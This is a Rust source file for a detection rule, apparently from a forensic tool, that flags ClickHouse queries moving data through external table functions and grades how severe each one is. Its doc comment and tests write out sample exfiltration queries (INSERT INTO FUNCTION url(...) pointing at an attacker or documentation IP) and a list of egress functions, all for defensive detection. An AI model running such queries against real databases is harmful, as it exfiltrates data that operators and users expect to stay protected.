//! `table-function-egress`
//!
//! ## What it flags
//! Queries that move data through table functions able to reach outside the server: `url`,
//! `s3`, `s3Cluster`, `gcs`, `azureBlobStorage`, `hdfs`, `remote`, `remoteSecure`, `cluster`,
//! `mysql`, `postgresql`, `mongodb`, `redis`, `jdbc`, `odbc`, `sqlite`, `file`, `iceberg*`,
//! `deltaLake*`, `hudi`, … They are read from `used_table_functions` (lower-cased) where the
//! server logged it, otherwise from the query text. `INSERT INTO FUNCTION` is exfiltration:
//! critical. Reads are external reads: high when the destination is external or a host name,
//! medium when it is an internal address, low for `cluster`/`clusterAllReplicas` (which stay
//! inside the cluster). The destination host is extracted where the text shows it.
//!
//! ## Why it matters
//! An attacker with query access does not need to download a table: `INSERT INTO FUNCTION
//! url('https://attacker/…') SELECT * FROM secrets` makes the server push it out, and the
//! client's own result stays tiny. Reads through `url()`/`s3()` are also how a server is
//! used to reach into networks the attacker cannot.
//!
//! ## Example
//! ```text
//! INSERT INTO FUNCTION url('http://203.0.113.9/x', 'TSV', 'a String') SELECT * FROM log_stream
//! → critical: `default` from external 198.51.100.7 pushed data out through url → 203.0.113.9
//! ```

use std::net::IpAddr;

use super::super::{describe_client, GroupKey, Groups, Hit, Observation, Settings, Verdict};
use crate::detect::finding::Group;
use crate::detect::{human_count, RuleId, Severity};
use crate::net::NetClass;
use crate::sql::{StatementKind, EGRESS_FUNCTIONS};

pub(crate) fn observe(obs: &Observation<'_, '_>, groups: &mut Groups) {
    let logged: Vec<String> = match &obs.event.table_functions {
        Some(list) => list
            .iter()
            .map(|f| f.to_ascii_lowercase())
            .filter(|f| EGRESS_FUNCTIONS.contains(&f.as_str()))
            .collect(),
        None => obs
            .class()
            .table_functions
            .iter()
            .map(|f| f.name.clone())
            .collect(),
    };
    // The server's list is authoritative when present; an empty list means none was used.
    if logged.is_empty() {
        return;
    }
    let class = obs.class();
    let insert = class.kind() == StatementKind::InsertIntoFunction;
    let mut severity = Severity::Low;
    let mut targets = Vec::new();
    for name in &logged {
        let dest = class
            .table_functions
            .iter()
            .find(|f| &f.name == name)
            .and_then(|f| f.destination.clone());
        let s = match name.as_str() {
            _ if insert => Severity::Critical,
            "cluster" | "clusterallreplicas" => Severity::Low,
            "file" | "filecluster" | "filesystem" | "sqlite" | "executable" => Severity::Medium,
            _ => match dest.as_deref().map(|d| destination_class(d, obs.settings)) {
                Some(NetClass::Internal) => Severity::Medium,
                _ => Severity::High,
            },
        };
        severity = severity.max(s);
        let direction = if insert { "write" } else { "read" };
        targets.push(match dest {
            Some(d) => format!("{name} → {d} ({direction})"),
            None => format!("{name} ({direction})"),
        });
    }
    let v = obs.event.volume;
    groups.add(
        obs.key(RuleId::TableFunctionEgress),
        Hit {
            severity,
            time: obs.event.start,
            client_class: obs.client_class,
            sums: &[
                ("inserts_into_function", u64::from(insert)),
                ("written_rows", v.written_rows),
                ("written_bytes", v.written_bytes),
                ("read_rows", v.read_rows),
                ("result_bytes", v.result_bytes),
            ],
            maxes: &[],
            tables: &[],
            targets: &targets,
            evidence: obs.pending(
                v.written_bytes
                    .saturating_add(v.read_bytes)
                    .saturating_add(1),
            ),
        },
    );
}

/// Internal for internal addresses and `localhost`; host names are external (not resolved:
/// a forensic tool must not make DNS queries about an incident).
fn destination_class(dest: &str, s: &Settings) -> NetClass {
    if dest.eq_ignore_ascii_case("localhost") {
        return NetClass::Internal;
    }
    match dest.parse::<IpAddr>() {
        Ok(ip) => s.classify(Some(ip)),
        Err(_) => NetClass::External,
    }
}

pub(crate) fn judge(key: &GroupKey, g: &Group, _s: &Settings) -> Option<Verdict> {
    let inserts = g.sum("inserts_into_function");
    let targets: Vec<&str> = g.targets.iter().map(String::as_str).take(5).collect();
    let what = if inserts > 0 {
        format!(
            "pushed data out with INSERT INTO FUNCTION ({} quer{}, {} rows written)",
            human_count(inserts),
            if inserts == 1 { "y" } else { "ies" },
            human_count(g.sum("written_rows"))
        )
    } else {
        format!(
            "read through table functions in {} quer{}",
            human_count(g.count),
            if g.count == 1 { "y" } else { "ies" }
        )
    };
    Some(Verdict {
        severity: g.severity,
        summary: format!(
            "{} {what}: {}.",
            describe_client(key, g.client_class),
            targets.join(", ")
        ),
        assumptions: if g.targets.iter().any(|t| names_a_host(t)) {
            vec!["destinations are read from the query text; host names are not resolved and count as external".to_owned()]
        } else {
            Vec::new()
        },
        extra_metrics: Vec::new(),
    })
}

/// Whether a `fn → destination (dir)` target names a host by name rather than address.
fn names_a_host(target: &str) -> bool {
    let Some((func, rest)) = target.split_once(" → ") else {
        return false;
    };
    let dest = rest.rsplit_once(" (").map_or(rest, |(d, _)| d);
    !matches!(
        func,
        "file"
            | "filecluster"
            | "filesystem"
            | "sqlite"
            | "executable"
            | "cluster"
            | "clusterallreplicas"
    ) && dest.parse::<IpAddr>().is_err()
        && !dest.eq_ignore_ascii_case("localhost")
}

#[cfg(test)]
mod tests {
    use std::borrow::Cow;

    use crate::detect::tests::{event, run};
    use crate::detect::{RuleId, Severity};

    fn finding(e: crate::event::QueryEvent<'static>) -> Option<(Severity, Vec<String>)> {
        run(&[e])
            .into_iter()
            .find(|f| f.rule == RuleId::TableFunctionEgress)
            .map(|f| (f.severity, f.targets))
    }

    #[test]
    fn ok_insert_into_function_is_critical() {
        let e = event("alice", "10.0.0.2", "INSERT INTO FUNCTION url('http://203.0.113.9:8000/x', 'TSV', 'a String') SELECT * FROM t", 0);
        assert_eq!(
            finding(e),
            Some((
                Severity::Critical,
                vec!["url → 203.0.113.9 (write)".to_owned()]
            ))
        );
    }

    #[test]
    fn ok_read_severity_follows_destination() {
        let e = event(
            "alice",
            "10.0.0.2",
            "SELECT * FROM s3('https://bucket.s3.amazonaws.com/k.csv')",
            10,
        );
        assert_eq!(finding(e).map(|f| f.0), Some(Severity::High));
        let e = event(
            "alice",
            "10.0.0.2",
            "SELECT * FROM remote('10.0.0.9:9000', db.t)",
            10,
        );
        assert_eq!(finding(e).map(|f| f.0), Some(Severity::Medium));
        let e = event(
            "alice",
            "10.0.0.2",
            "SELECT * FROM clusterAllReplicas('c', system.query_log)",
            10,
        );
        assert_eq!(finding(e).map(|f| f.0), Some(Severity::Low));
    }

    #[test]
    fn ok_server_column_wins_over_text() {
        let mut e = event("alice", "10.0.0.2", "SELECT 'url(1)' FROM numbers(1)", 10);
        e.table_functions = Some(vec![Cow::Borrowed("numbers")]);
        assert_eq!(finding(e), None);
        let mut e = event("alice", "10.0.0.2", "SELECT * FROM v", 10);
        e.table_functions = Some(vec![Cow::Borrowed("URL")]);
        assert_eq!(finding(e).map(|f| f.0), Some(Severity::High));
    }
}
